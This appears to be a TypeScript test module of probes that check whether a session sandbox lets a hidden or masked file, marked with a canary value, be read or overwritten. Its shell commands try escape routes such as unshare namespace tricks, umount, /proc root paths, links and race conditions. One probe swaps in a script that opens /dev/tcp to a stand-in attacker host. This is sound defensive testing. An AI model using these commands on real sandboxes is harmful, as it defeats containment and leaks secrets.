// Technique 15: files of the checkout that the policy hides or masks, by their own names, by others, and those that come while
// the session runs. A canary that turns up in what the probe left behind was read.

import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, linkSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import type { Logged } from "../../../journeys/stage.ts";
import { changed, reached } from "../../oracles.ts";
import type { After, Place, Probe } from "../../probe.ts";
import type { Rig } from "../../rig/rig.ts";
import { evil } from "../../rig/world.ts";

/** Unlike the token, in no command. */
const canaryOf = ({ token }: Rig): string => createHash("sha256").update(`hidden ${token}`).digest("hex").slice(0, 24);

/** In the checkout, or in the private copy of it. */
function lootOf(rig: Rig): string {
  const copies = join(rig.base, "state/staged");
  const trees = existsSync(copies) ? readdirSync(copies).map((name) => join(copies, name, "tree/loot")) : [];
  return rig.read("loot") + trees.map((path) => (existsSync(path) ? readFileSync(path, "latin1") : "")).join("");
}

const read = ({ rig }: After): string | undefined =>
  lootOf(rig).includes(canaryOf(rig)) ? "the canary of a hidden file was read" : undefined;

const refused =
  (...paths: readonly string[]) =>
  ({ kind, verdict, sealed }: Logged): boolean =>
    kind === "hidden-file" && verdict === "refuse" && paths.some((path) => sealed["path"] === path);

/** By `targets/postern.ts` alone: the others were given no files to hide. */
const ownOnly = ({ target }: Place): string | undefined =>
  target.startsWith("postern") || target === "none" ? undefined : "it is given no files to hide";

const files = (rig: Rig): Readonly<Record<string, string>> => ({
  "hidden/key": `${canaryOf(rig)}\n`,
  "settings.env": `TOKEN=${canaryOf(rig)}\n`,
});

const base = {
  technique: 15,
  source: "list; srt #432",
  record: "absent",
  files,
  landed: read,
  notHere: ownOnly,
} as const;

/** What the person does in the checkout once the session has begun, wherever it was seen to begin. */
function later(rig: Rig, path: string): void {
  const begun = `test -e ${rig.work}/begun || test -n "$(ls ${rig.base}/state/staged/*/tree/begun 2>/dev/null)"`;
  const line = `for i in $(seq 600); do if ${begun}; then mkdir -p "$(dirname ${rig.work}/${path})"; echo ${canaryOf(rig)} > ${rig.work}/loot.new; mv -f ${rig.work}/loot.new ${rig.work}/${path}; exit; fi; sleep 0.1; done`;
  spawn("sh", ["-c", line], { stdio: "ignore", detached: true }).unref();
}

const waiting = (path: string, patience = 0): string =>
  `: > begun; for i in $(seq 40); do test -e ${path} && sleep ${patience}; cat ${path} >> loot; sleep 0.1; done`;

/** A program of the tool's own, laid over the one that covers: whoever begins it for a cover begins it outside, past the gateway. */
const laidOver = `mv /run/postern /run/old; mkdir -p /tmp/m/blank; ln -s /tmp/m /run/postern; ln -s /tmp/m/blank /run/postern/blank
printf '#!/bin/bash\\nexec 3<>/dev/tcp/${evil.ip}/8080; echo x >&3\\n' > /tmp/m/blank/file; chmod 755 /tmp/m/blank/file
ln -s /usr/bin/mount first.hidden; for i in $(seq 15); do sleep 0.1; echo x > then-$i.hidden; done; sleep 1`;

export const hidden: readonly Probe[] = [
  {
    ...base,
    id: "hidden-read",
    title: "read a file the policy hides",
    decisive: true,
    inside: () =>
      "cat hidden/key HIDDEN/key src/../hidden/key > loot; dd if=hidden/key >> loot; tar cf - . >> loot; grep -r . >> loot",
  },
  {
    ...base,
    id: "hidden-opened",
    title: "uncover it: permissions, mounts, namespaces, other ways to the same directory",
    inside: ({ work }) =>
      `chmod -R 777 hidden settings.env; umount hidden; umount settings.env; cat hidden/key settings.env > loot
unshare -Urm sh -c 'umount hidden settings.env; cat hidden/key settings.env' >> loot
cat /proc/self/cwd/hidden/key /proc/*/root${work}/hidden/key /proc/*/cwd/settings.env >> loot`,
  },
  {
    ...base,
    id: "hidden-moved",
    title: "move it away, with what it lies in",
    inside: () =>
      "mv hidden moved; cat moved/key > loot; mv settings.env other; cat other >> loot; rm -f settings.env; cat settings.env >> loot",
  },
  {
    ...base,
    id: "hidden-second-name",
    title: "read it by a second name it has in the checkout",
    decisive: true,
    prepare: ({ work }) => linkSync(`${work}/hidden/key`, `${work}/src/second`),
    inside: () => "cat src/second > loot; ln src/second third; cat third >> loot",
  },
  {
    ...base,
    id: "hidden-by-link",
    title: "read what a link that is meant leads to",
    files: (rig) => ({ ...files(rig), "src/store": `${canaryOf(rig)}\n` }),
    prepare: ({ work }) => symlinkSync("src/store", `${work}/link.hidden`),
    inside: () => "cat link.hidden src/store > loot",
  },
  {
    ...base,
    id: "hidden-later",
    title: "read a file that comes into a hidden directory while the session runs",
    prepare: (rig) => later(rig, "hidden/later"),
    inside: () => waiting("hidden/later"),
  },
  {
    ...base,
    id: "hidden-later-elsewhere",
    title: "read a file of a hidden name that came elsewhere while the session runs, a second later",
    prepare: (rig) => later(rig, "sub/late.hidden"),
    inside: () => waiting("sub/late.hidden", 1),
  },
  {
    ...base,
    id: "hidden-cover-laid-over",
    title: "lay its own program over the one that covers what comes late, and have it begun outside",
    source: "own",
    uncontrolled: "nothing covers anything there",
    inside: () => laidOver,
    landed: reached(evil.ip),
  },
  {
    ...base,
    id: "masked-replaced",
    title: "read a masked file for which the person has put another, a second later",
    prepare: (rig) => later(rig, "settings.env"),
    inside: () => ": > begun; for i in $(seq 30); do sleep 0.1; done; cat settings.env > loot",
  },
  {
    ...base,
    id: "masked-read",
    title: "read a value the policy masks",
    decisive: true,
    inside: () => "cat settings.env > loot; bash -c '. ./settings.env; echo $TOKEN' >> loot; tar cf - . >> loot",
  },
  {
    ...base,
    id: "hidden-written",
    title: "put another file in a hidden one's place",
    record: "must",
    decisive: true,
    inside: () => "mkdir -p hidden; echo x > hidden/key; rm -f hidden/key; echo x > y; mv -f y hidden/key",
    landed: changed("work/hidden"),
    entry: refused("hidden/key", "hidden"),
  },
  {
    ...base,
    id: "masked-written",
    title: "write over a masked file, with what it shows",
    record: "must",
    inside: () => "cp settings.env copy; echo MORE=1 >> copy; cat copy > settings.env; mv -f copy settings.env",
    landed: changed("work/settings.env"),
    entry: refused("settings.env"),
  },
];
